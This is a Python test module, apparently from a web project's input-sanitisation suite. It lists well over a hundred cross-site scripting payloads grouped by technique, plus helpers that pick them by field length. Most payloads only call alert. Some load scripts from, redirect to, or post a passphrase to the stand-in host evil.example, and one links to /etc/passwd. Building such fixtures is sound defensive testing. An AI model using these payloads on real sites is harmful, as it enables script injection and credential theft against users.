"""Ways of smuggling script into what people type, from the public classes of attack.

Each that runs calls `alert`, or asks a host called evil.example for something.
"""

from sameboat.lib.lookalikes import mixes_alphabets, skeleton
from sameboat.people.misleading import sounds_on_duty
from sameboat.people.rules import _TURNS_ROUND

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(3)</script>",
    "<script\n>alert(4)</script\n>",
    "<<script>alert(5)//<</script>",
    "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "<script>alert(7)<!--</script>-->",
    "</p><script>alert(8)</script><p>",
    "<script type=module>alert(9)</script>",
    "<script>/*</script><img src=x onerror=alert(10)>*/",
    "<plaintext><script>alert(11)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(12)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(13)>'>",
)

_HANDLERS = (
    "<img src=x onerror=alert(20)>",
    "<img/src=x/onerror=alert(21)>",
    "<IMG SRC=x OnErRoR=alert(22)>",
    "<img src=x onerror\n=\nalert(23)>",
    "<img src=x\x0conerror=alert(24)>",
    "<img src=x:x onerror=alert`25`>",
    "<img src onerror=alert(26)//",
    '<img """><script>alert(27)</script>">',
    "<body onload=alert(28)>",
    "<body onpageshow=alert(29)>",
    "<input autofocus onfocus=alert(30)>",
    "<details open ontoggle=alert(31)>",
    "<video><source onerror=alert(32)>",
    "<audio src=x onerror=alert(33)>",
    "<marquee onstart=alert(34)>",
    "<a onmouseover=alert(35)>over</a>",
    "<p style=animation-name:x onanimationstart=alert(36)>",
    "<select autofocus onfocus=alert(37)>",
    "<button popovertarget=x>go</button><p popover id=x onbeforetoggle=alert(38)>",
    "<p hidden=until-found onbeforematch=alert(39)>x</p>",
    "<img src=x onerror=&#97;lert(40)>",
    "<img src=x onerror=eval(atob('YWxlcnQoNDEp'))>",
)

_DRAWINGS = (
    "<svg onload=alert(50)>",
    "<svg/onload=alert(51)>",
    "<svg><script>alert(52)</script></svg>",
    "<svg><script>alert&#40;53&#41;</script>",
    "<svg><animate onbegin=alert(54) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(55)'><text y=20>go</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(56)>#x'/>",
    "<svg><set attributeName=onmouseover to=alert(57)>",
    "<svg><foreignObject><iframe onload=alert(58)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(59)></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(60)>",
    "<math href='javascript:alert(61)'>go</math>",
    "<math><mi xlink:href='data:x,<script>alert(62)</script>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(63)>'>",
)

_LINKS = (
    "[go](javascript:alert(70))",
    "[go](JaVaScRiPt:alert(71))",
    "[go](java\tscript:alert(72))",
    "[go](&#106;avascript:alert(73))",
    "[go](javascript&colon;alert(74))",
    "[go](\x01javascript:alert(75))",
    "[go](<javascript:alert(76)>)",
    "[go]( javascript:alert(77) )",
    "[go](vbscript:msgbox(78))",
    "[go](data:text/html,<script>alert(79)</script>)",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCg4MCk8L3NjcmlwdD4=)",
    "[go](data:image/svg+xml,%3Csvg%20onload=alert(81)%3E)",
    "[go](//evil.example/x)",
    "[go](file:///etc/passwd)",
    "[go](blob:https://evil.example/x)",
    "[go](view-source:javascript:alert(82))",
    "[go](feed:javascript:alert(83))",
    "[go][1]\n\n[1]: javascript:alert(84)",
    "<javascript:alert(85)>",
    "<JAVASCRIPT:alert(86)>",
    "<data:text/html,x>",
    "<vbscript:alert(87)>",
    "<https://evil.example/'onclick='alert(88)>",
    'https://evil.example/"onmouseover="alert(89)',
    "https://evil.example/<script>alert(90)</script>",
    "https://evil.example/`onclick=alert(91)`",
    '[go](https://evil.example/ "x" onclick=alert(92) ")',
    "[go](https://e.example \"onmouseover='alert(93)'\")",
    "[go](https://e.example '><script>alert(94)</script>')",
    "[<img src=x onerror=alert(95)>](https://e.example)",
    '[a](https://e.example"onclick=alert(96))',
    "[a](https://e.example/[b](javascript:alert(97)))",
    "[![go](x)](javascript:alert(98))",
    "![go](https://evil.example/dot.png)",
    "![x](javascript:alert(99))",
    '![x" onerror="alert(100)](x)',
    '![x](x"onerror=alert(101))',
    "![](data:image/svg+xml,<svg/onload=alert(102)>)",
)

_BREAKING_OUT = (
    '"><script>alert(110)</script>',
    "'><script>alert(111)</script>",
    '"/><img src=x onerror=alert(112)>',
    '" autofocus onfocus=alert(113) x="',
    "' autofocus onfocus=alert(114) x='",
    "` onmouseover=alert(115) `",
    "</textarea><script>alert(116)</script>",
    "</title><script>alert(117)</script>",
    "</style><script>alert(118)</script>",
    "</script><script>alert(119)</script>",
    "--><script>alert(120)</script><!--",
    "]]><script>alert(121)</script>",
    "</option></select><img src=x onerror=alert(122)>",
    "</summary></details><svg onload=alert(123)>",
    "</svg><svg onload=alert(124)>",
    '\\"><img src=x onerror=alert(125)>',
    "';alert(126);//",
    "\\';alert(127);//",
    "${alert(128)}",
    "<!-- here --><script>alert(129)</script>",
)

_IN_CODE = (
    "&lt;script&gt;alert(130)&lt;/script&gt;",
    "&#60;script&#62;alert(131)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(132)&#x3e;",
    "&amp;lt;script&amp;gt;alert(133)",
    "%3Cscript%3Ealert(134)%3C/script%3E",
    "%253Cscript%253Ealert(135)",
    "\\u003cscript\\u003ealert(136)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(137)",
    "\uff1cscript\uff1ealert(138)\uff1c/script\uff1e",
    "\ufe64script\ufe65alert(139)\ufe64/script\ufe65",
    "+ADw-script+AD4-alert(140)+ADw-/script+AD4-",
    "<\x00script>alert(141)</script>",
    "<scr\x00ipt>alert(142)</scr\x00ipt>",
    "[go](java\x00script:alert(143))",
    "<img src=x on\u200berror=alert(144)>",
    "\u202e<script>alert(145)</script>\u202c",
    "\u2066\u202egpj.<img src=x onerror=alert(146)>",
    "<\u0455cript>alert(147)</\u0455cript>",
    "<\u017fcript>alert(148)</\u017fcript>",
    "<img src=x onerror\u2028=alert(149)>",
    "\u00bcscript\u00bealert(150)\u00bc/script\u00be",
    "\U0001f642<svg onload=alert(151)>",
)

_PAGES_WITHIN = (
    "<iframe src=javascript:alert(160)>",
    "<iframe srcdoc='<script>alert(161)</script>'>",
    "<iframe src=//evil.example></iframe>",
    "<object data=javascript:alert(162)>",
    "<embed src=javascript:alert(163)>",
    "<frameset onload=alert(164)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<form action=//evil.example><input name=passphrase><button>Come in</button>",
    "<button formaction=javascript:alert(165)>go</button>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>",
    "<p style='width:expression(alert(166))'>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<img srcset='//evil.example/x 1x'>",
    "<video poster=//evil.example/x src=//evil.example/y autoplay>",
    "<template><script>alert(167)</script></template>",
    "<portal src=//evil.example>",
)

_NAMES = (
    "<a id=config name=config href=javascript:alert(170)>",
    "<form id=write name=write><input name=action value=x>",
    "<img name=currentScript src=x>",
    "<p data-draft=write data-draft-to=//evil.example>",
    "<a data-leave href=/leave/>gone</a>",
    "<p hx-get=//evil.example hx-trigger=load>",
)

_MUTATING = (
    "<p title='</p><img src=x onerror=alert(180)>'>",
    "<noembed><p id='</noembed><img src=x onerror=alert(181)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(182)>",
    "<a href='&#x3c;img onerror=alert(183) src=x&#x3e;'>x</a>",
    "<table><td background=javascript:alert(184)>",
    "<listing>&lt;img src=x onerror=alert(185)&gt;</listing>",
    "<!--><img src=x onerror=alert(186)>-->",
    "<!--!><img src=x onerror=alert(187)>",
    "<?xml version='1.0'?><script>alert(188)</script>",
    "<![CDATA[<script>alert(189)</script>]]>",
)

_MARKS = (
    "> <script>alert(200)</script>",
    "> > > <img src=x onerror=alert(201)>\n- <svg onload=alert(202)>",
    "- [x](javascript:alert(203))\n  1. <script>alert(204)</script>",
    "**<script>**alert(205)</script>",
    "*<img src=x* onerror=alert(206)>",
    "~~[x](javascript:alert(207))~~",
    "\\<script\\>alert(208)\\</script\\>",
    "<https://e.example><script>alert(209)</script>",
    "`<script>alert(210)</script>`",
    "```html\n<script>alert(211)</script>\n```",
    "    <script>alert(212)</script>",
    "<script>\n\nalert(213)\n\n</script>",
    '[a]: https://e.example "<script>alert(214)</script>"\n\n[a]',
    "{{ 7|add:7 }}{% include 'x' %}{{constructor.constructor('alert(215)')()}}",
    "<%= alert(216) %> #{alert(217)} [[alert(218)]] @{alert(219)}",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(220))//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(221)//>\\x3e",
    '\'">><marquee><img src=x onerror=alert(222)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(223)>',
    "[" * 400 + "x](javascript:alert(224))",
    "<b>" * 300 + "<img src=x onerror=alert(225)>",
    "> " * 300 + "<script>alert(226)</script>",
    "a" * 3000 + "<script>alert(227)</script>",
)

_ALL = (
    *_TAGS, *_HANDLERS, *_DRAWINGS, *_LINKS, *_BREAKING_OUT, *_IN_CODE,
    *_PAGES_WITHIN, *_NAMES, *_MUTATING, *_MARKS,
)  # fmt: skip

# Null bytes are refused at every door, so that they are tried by themselves.
WITH_NULL_BYTES = tuple(payload for payload in _ALL if "\x00" in payload)
PAYLOADS = tuple(payload for payload in _ALL if "\x00" not in payload)


def fitting(most: int) -> list[str]:
    """Those that fit a field of `most` letters, each on its own."""
    return [payload for payload in PAYLOADS if len(payload) <= most]


def names_taken() -> list[str]:
    """Those that may be somebody's name here: no @, nothing that turns text round or that the house
    would take for another name, no null byte."""
    told = {skeleton(name): name for name in reversed(fitting(40)) if "@" not in name}
    return [
        name
        for name in told.values()
        if not (_TURNS_ROUND.search(name) or mixes_alphabets(name) or sounds_on_duty(name))
    ]


def packed(most: int) -> list[str]:
    """All that fit, several to a field of `most` letters."""
    packs = [""]
    for payload in fitting(most):
        if len(packs[-1]) + len(payload) + 1 > most:
            packs.append("")
        packs[-1] = f"{packs[-1]} {payload}".strip()
    return packs
